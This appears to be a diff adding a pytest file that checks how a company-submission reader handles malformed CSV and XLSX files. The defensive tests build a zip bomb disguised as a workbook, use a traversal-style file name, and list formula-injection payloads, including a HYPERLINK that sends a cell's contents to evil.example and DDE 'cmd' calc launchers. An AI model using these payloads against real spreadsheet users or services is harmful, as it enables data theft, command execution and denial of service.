@@ -1,0 +1,353 @@
+"""Every bad input a company can send ends in a file or cell error a person can act on, and the
+other files of the period are still read (tasks/submission_readers.py)."""
+
+from __future__ import annotations
+
+import io
+import os
+import subprocess
+import sys
+import zipfile
+from pathlib import Path
+
+import pandas as pd
+import pytest
+
+from schemas.submission import SUBMISSION_FIELDS
+from tasks.storage import Storage
+from tasks.submission_readers import read_period
+from tests.test_submission_readers import LABELS, PERIOD, csv_bytes, good_row, put, xlsx_bytes
+
+PROJECT = Path(__file__).resolve().parents[1]
+
+
+@pytest.fixture
+def storage(tmp_path: Path) -> Storage:
+    s = Storage(tmp_path / "data")
+    put(s, "zz_good.csv", csv_bytes([good_row(7)]))  # must survive whatever else is in the folder
+    return s
+
+
+def _read(storage: Storage):
+    res = read_period(storage, PERIOD)
+    good = [f for f in res.files if f.file == "zz_good.csv"]
+    assert good and good[0].status == "read" and good[0].rows_read == 1, "the good file was not read"
+    assert (res.rows["source_file"] == "zz_good.csv").sum() == 1
+    return res
+
+
+def _file_error(res, name: str) -> dict:
+    errs = res.file_errors[res.file_errors["source_file"] == name]
+    assert len(errs) >= 1, f"no file error for {name}"
+    rec = errs.iloc[0].to_dict()
+    assert name in rec["reason_id"]  # names the file
+    return rec
+
+
+def _status(res, name: str) -> str:
+    return next(f.status for f in res.files if f.file == name)
+
+
+def _xlsx_row(overrides: dict[str, object] | None = None) -> list[object]:
+    g: dict[str, object] = dict(good_row(3))
+    g.update(overrides or {})
+    return [g[f.name] for f in SUBMISSION_FIELDS]
+
+
+def test_empty_file(storage):
+    put(storage, "kosong.csv", b"")
+    put(storage, "kosong.xlsx", b"")
+    res = _read(storage)
+    for name in ("kosong.csv", "kosong.xlsx"):
+        rec = _file_error(res, name)
+        assert rec["reason_code"] == "empty_file" and "kosong" in rec["reason_id"]
+        assert _status(res, name) == "unreadable"
+
+
+def test_header_only_is_reported_not_fatal(storage):
+    put(storage, "judul.csv", csv_bytes([]))
+    put(storage, "judul.xlsx", xlsx_bytes({"Isian": [LABELS]}))
+    res = _read(storage)
+    for name in ("judul.csv", "judul.xlsx"):
+        rec = _file_error(res, name)
+        assert (rec["reason_code"], rec["severity"]) == ("header_only", "warning")
+        assert _status(res, name) == "read"
+        assert next(f.rows_read for f in res.files if f.file == name) == 0
+
+
+def test_random_bytes_named_csv(storage):
+    put(storage, "acak.csv", os.urandom(4096))
+    put(storage, "zip.csv", xlsx_bytes({"S": [LABELS]}))
+    res = _read(storage)
+    assert _file_error(res, "acak.csv")["reason_code"] == "not_text"
+    assert _file_error(res, "zip.csv")["reason_code"] == "not_text"
+
+
+def test_text_file_without_header(storage):
+    put(storage, "surat.csv", b"Dengan hormat,\nberikut kami kirimkan laporan.\n")
+    res = _read(storage)
+    rec = _file_error(res, "surat.csv")
+    assert rec["reason_code"] == "no_header" and "Penjualan Bersih" in rec["reason_id"]
+
+
+def test_non_xlsx_named_xlsx(storage):
+    put(storage, "bukan.xlsx", csv_bytes([good_row()]))
+    put(storage, "dokumen.xlsx", _zip({"word/document.xml": b"<w/>", "[Content_Types].xml": b"<T/>"}))
+    res = _read(storage)
+    assert _file_error(res, "bukan.xlsx")["reason_code"] == "not_xlsx"
+    assert _file_error(res, "dokumen.xlsx")["reason_code"] == "not_xlsx"
+
+
+def test_truncated_and_corrupt_xlsx(storage):
+    data = xlsx_bytes({"Isian": [LABELS, _xlsx_row()]})
+    put(storage, "terpotong.xlsx", data[: len(data) // 2])
+    broken = bytearray(data)
+    start = data.index(b"xl/worksheets/sheet1.xml") + 60  # inside that member's compressed data
+    broken[start : start + 200] = b"\x00" * 200
+    put(storage, "rusak.xlsx", bytes(broken))
+    res = _read(storage)
+    rec = _file_error(res, "terpotong.xlsx")
+    assert rec["reason_code"] == "corrupt_xlsx" and "kirim ulang" in rec["reason_id"].lower()
+    assert _status(res, "rusak.xlsx") == "unreadable"
+    assert _file_error(res, "rusak.xlsx")["reason_code"] in {"corrupt_xlsx", "read_failed"}
+
+
+def _cfb(stream_names: list[str]) -> bytes:
+    """A minimal OLE2/CFB container header with directory entry names (enough for detection)."""
+    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
+    entries = b"".join(n.encode("utf-16-le").ljust(64, b"\x00") + b"\x00" * 64 for n in stream_names)
+    return header + entries + b"\x00" * 1024
+
+
+def test_password_protected_xlsx_and_old_xls(storage):
+    put(storage, "rahasia.xlsx", _cfb(["Root Entry", "EncryptionInfo", "EncryptedPackage"]))
+    put(storage, "lama.xls", _cfb(["Root Entry", "Workbook", "SummaryInformation"]))
+    put(storage, "lama_diganti_nama.xlsx", _cfb(["Root Entry", "Workbook"]))
+    res = _read(storage)
+    rec = _file_error(res, "rahasia.xlsx")
+    assert rec["reason_code"] == "encrypted_xlsx" and "kata sandi" in rec["reason_id"]
+    assert _file_error(res, "lama.xls")["reason_code"] == "xls_old_format"
+    assert ".xlsx atau CSV" in _file_error(res, "lama.xls")["reason_id"]
+    assert _file_error(res, "lama_diganti_nama.xlsx")["reason_code"] == "xls_old_format"
+
+
+def test_formula_cells_without_cached_values(storage):
+    # openpyxl stores formulas without cached values: exactly what an unsaved generated file holds.
+    row = _xlsx_row({"net_sales": "=2500000*1000", "wages_salaries": 500000000})
+    put(storage, "rumus.xlsx", xlsx_bytes({"Isian": [LABELS, row]}))
+    res = _read(storage)
+    errs = res.cell_errors[res.cell_errors["source_file"] == "rumus.xlsx"]
+    assert errs[["source_sheet", "source_row", "column", "reason_code"]].to_dict("records") == [
+        {
+            "source_sheet": "Isian",
+            "source_row": 2,
+            "column": "net_sales",
+            "reason_code": "formula_without_value",
+        }
+    ]
+    assert "simpan ulang di Excel" in errs.iloc[0]["reason_id"]
+    row_out = res.rows[res.rows["source_file"] == "rumus.xlsx"].iloc[0]
+    assert pd.isna(row_out["net_sales"]) and row_out["wages_salaries"] == 500_000_000
+
+
+def _zip(members: dict[str, bytes]) -> bytes:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
+        for name, data in members.items():
+            zf.writestr(name, data)
+    return buf.getvalue()
+
+
+def test_zip_bomb_disguised_as_xlsx(storage):
+    bomb = _zip(
+        {
+            "[Content_Types].xml": b"<Types/>",
+            "xl/workbook.xml": b"<workbook/>",
+            "xl/worksheets/sheet1.xml": b"<" + b"0" * 30_000_000 + b">",
+        }
+    )
+    assert len(bomb) < 200_000  # small on disk
+    put(storage, "bom.xlsx", bomb)
+    res = _read(storage)
+    rec = _file_error(res, "bom.xlsx")
+    assert rec["reason_code"] == "zip_bomb" and _status(res, "bom.xlsx") == "unreadable"
+    # The total-size limit applies too, whatever the ratio.
+    small = Storage(storage.root + "-2")
+    put(small, "besar.xlsx", xlsx_bytes({"Isian": [LABELS, _xlsx_row()]}))
+    res2 = read_period(small, PERIOD, max_uncompressed_bytes=1_000)
+    assert res2.file_errors.iloc[0]["reason_code"] == "zip_bomb"
+
+
+def test_missing_and_misspelled_columns(storage):
+    headers = [f.label_id for f in SUBMISSION_FIELDS]
+    headers[headers.index("Penjualan Bersih")] = "Penjualn Bersih"
+    headers[headers.index("Kode KBLI")] = "Catatan Internal"
+    put(storage, "salah_kolom.csv", csv_bytes([good_row()], headers=headers))
+    res = _read(storage)
+    errs = res.file_errors[res.file_errors["source_file"] == "salah_kolom.csv"]
+    by_code = {c: g for c, g in errs.groupby("reason_code")}
+    missing = by_code["missing_columns"].iloc[0]
+    assert "'Penjualan Bersih'" in missing["reason_id"] and "'Kode KBLI'" in missing["reason_id"]
+    unknown = by_code["unknown_column"]["reason_id"].tolist()
+    assert any("'Penjualn Bersih' " in u and "maksud Anda 'Penjualan Bersih'?" in u for u in unknown)
+    assert _status(res, "salah_kolom.csv") == "unreadable"
+
+
+def test_optional_columns_may_be_absent_and_unknown_extra_columns_are_warnings(storage):
+    names = [f.name for f in SUBMISSION_FIELDS if f.required]
+    headers = [next(f.label_id for f in SUBMISSION_FIELDS if f.name == n) for n in names] + ["Keterangan"]
+    put(storage, "minimal.csv", csv_bytes([good_row()], names=names + ["x"], headers=headers))
+    res = _read(storage)
+    assert _status(res, "minimal.csv") == "read"
+    assert _file_error(res, "minimal.csv")["severity"] == "warning"
+    row = res.rows[res.rows["source_file"] == "minimal.csv"].iloc[0]
+    assert pd.isna(row["capex"]) and row["net_sales"] == 2_500_000_000
+
+
+def test_text_in_numeric_cells(storage):
+    bad = good_row(1)
+    bad.update(net_sales="dua juta", workers_avg_total="lima puluh", submitted_on="kemarin", period="Agustus")
+    put(storage, "teks.csv", csv_bytes([good_row(0), bad]))
+    res = _read(storage)
+    errs = res.cell_errors[res.cell_errors["source_file"] == "teks.csv"].set_index("column")
+    assert set(errs.index) == {"net_sales", "workers_avg_total", "submitted_on", "period"}
+    assert (errs["source_row"] == 3).all() and errs["source_sheet"].isna().all()
+    assert errs.loc["net_sales", "reason_code"] == "not_a_number"
+    assert errs.loc["net_sales", "value"] == "dua juta"
+    msg = errs.loc["net_sales", "reason_id"]
+    assert msg.startswith("Baris 3, kolom 'Penjualan Bersih' di berkas 'teks.csv'") and "bukan angka" in msg
+    assert errs.loc["period", "reason_code"] == "not_a_period"
+    rows = res.rows[res.rows["source_file"] == "teks.csv"]
+    assert len(rows) == 2  # rows with bad cells stay, their bad cells NA
+    assert pd.isna(rows.iloc[1]["net_sales"]) and rows.iloc[1]["wages_salaries"] == 500_000_000
+
+
+def test_negative_and_absurd_values_pass_through_typed(storage):
+    r = good_row()
+    r.update(
+        net_sales="-5.000", workers_avg_total="1000000000", hours_normal="-3", capex="900.000.000.000.000.000"
+    )
+    put(storage, "aneh.csv", csv_bytes([r]))
+    res = _read(storage)
+    assert res.cell_errors.empty
+    row = res.rows[res.rows["source_file"] == "aneh.csv"].iloc[0]
+    assert row["net_sales"] == -5000 and row["workers_avg_total"] == 1e9 and row["hours_normal"] == -3.0
+    assert row["capex"] == 900_000_000_000_000_000
+
+
+def test_non_utf8_csv_is_read_as_cp1252_with_a_warning(storage):
+    r = good_row()
+    r["company_name"] = "CV Café Señor"
+    put(storage, "latin.csv", csv_bytes([r], encoding="cp1252"))
+    res = _read(storage)
+    rec = _file_error(res, "latin.csv")
+    assert (rec["reason_code"], rec["severity"]) == ("encoding_cp1252", "warning")
+    row = res.rows[res.rows["source_file"] == "latin.csv"].iloc[0]
+    assert row["company_name"] == "CV Café Señor"
+
+
+def test_odd_file_names_are_data(storage):
+    names = [
+        "laporan agustus 2025 (revisi).csv",
+        "PT Maju Jaya — Samarinda ✓.csv",
+        "..\\x.csv",
+        "~$kunci.xlsx",
+    ]
+    for i, n in enumerate(names[:3]):
+        put(storage, n, csv_bytes([good_row(20 + i)]))
+    put(storage, names[3], b"\x00\x01lock")
+    res = _read(storage)
+    assert {f.file: f.status for f in res.files if f.file != "zz_good.csv"} == {
+        names[0]: "read",
+        names[1]: "read",
+        names[2]: "read",
+        names[3]: "unreadable",
+    }
+    assert set(res.rows["source_file"]) == {*names[:3], "zz_good.csv"}
+    # Nothing was written outside the period folder except the manifest.
+    root = Path(storage.root)
+    assert sorted(p.name for p in (root / "raw" / "submissions").iterdir()) == [PERIOD]
+    assert [p.relative_to(root).as_posix() for p in (root / "processed").rglob("*") if p.is_file()] == [
+        f"processed/manifests/submissions/{PERIOD}.jsonl"
+    ]
+
+
+def test_unknown_extension(storage):
+    put(storage, "laporan.pdf", b"%PDF-1.4 ...")
+    put(storage, "tanpa_ekstensi", b"NIB;Nama")
+    res = _read(storage)
+    assert _file_error(res, "laporan.pdf")["reason_code"] == "unknown_extension"
+    assert ".xlsx atau .csv" in _file_error(res, "tanpa_ekstensi")["reason_id"]
+
+
+def test_ragged_csv_is_a_structure_error(storage):
+    text = csv_bytes([good_row()]).decode() + ";".join(["x"] * 40) + "\n"
+    put(storage, "miring.csv", text.encode())
+    res = _read(storage)
+    assert _file_error(res, "miring.csv")["reason_code"] == "bad_structure"
+    assert (res.rows["source_file"] == "miring.csv").sum() == 0
+
+
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|'/C calc'!A0",
+    "@SUM(1+1)*cmd",
+]
+
+
+def test_formula_injection_stays_inert_and_is_neutralised(storage):
+    rows = []
+    for i, p in enumerate(PAYLOADS):
+        r = good_row(30 + i)
+        r["company_name"] = p
+        r["net_sales"] = p
+        rows.append(r)
+    put(storage, "injeksi.csv", csv_bytes(rows, sep=","))
+    put(
+        storage,
+        "injeksi.xlsx",
+        xlsx_bytes({"Isian": [LABELS, _xlsx_row({"company_name": "'" + PAYLOADS[0]})]}),
+    )
+    res = _read(storage)
+    got = res.rows[res.rows["source_file"] == "injeksi.csv"]
+    assert got["company_name"].tolist() == PAYLOADS  # kept as inert text, not evaluated
+    errs = res.cell_errors[res.cell_errors["source_file"] == "injeksi.csv"]
+    assert errs["value"].tolist() == ["'" + p for p in PAYLOADS]
+    assert not errs["reason_id"].str.match(r"^[=+\-@]").any()
+    assert _status(res, "injeksi.xlsx") == "read"
+
+
+@pytest.mark.slow
+def test_200mb_csv_counted_with_bounded_memory(tmp_path):
+    """Peak memory of reading a 200 MB CSV stays far below what loading it as Python objects needs."""
+    script = f"""
+import resource, sys
+sys.path.insert(0, {str(PROJECT)!r})
+from tests.test_submission_readers import csv_bytes, good_row
+from tasks.storage import Storage
+from tasks.submission_readers import read_period
+s = Storage({str(tmp_path / "data")!r})
+head, line = csv_bytes([good_row()]).split(b"\\n")[:2]
+rel = "raw/submissions/2025-08/besar.csv"
+n = 0
+with open(s.local_path(rel) if s.makedirs("raw/submissions/2025-08") is None else None, "wb") as fh:
+    fh.write(head + b"\\n")
+    block = (line + b"\\n") * 10000
+    while n * len(line) < 200_000_000:
+        fh.write(block)
+        n += 10000
+base = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+res = read_period(s, "2025-08", chunk_rows=50_000)
+peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+typed = int(res.rows.memory_usage(deep=True).sum())
+print(n, len(res.rows), res.files[0].rows_read, base, peak, typed, len(res.cell_errors))
+"""
+    out = subprocess.run(
+        [sys.executable, "-c", script], capture_output=True, text=True, check=True, cwd=PROJECT
+    )
+    n, rows, rows_read, base_kb, peak_kb, typed_bytes, n_err = map(int, out.stdout.split())
+    assert rows == rows_read == n and n_err == 0
+    grown = (peak_kb - base_kb) * 1024
+    # Bounded: the typed result plus a few chunks, far below 200 MB of text as Python str objects (~1.2 GB).
+    assert grown < typed_bytes + 400_000_000, (grown, typed_bytes)
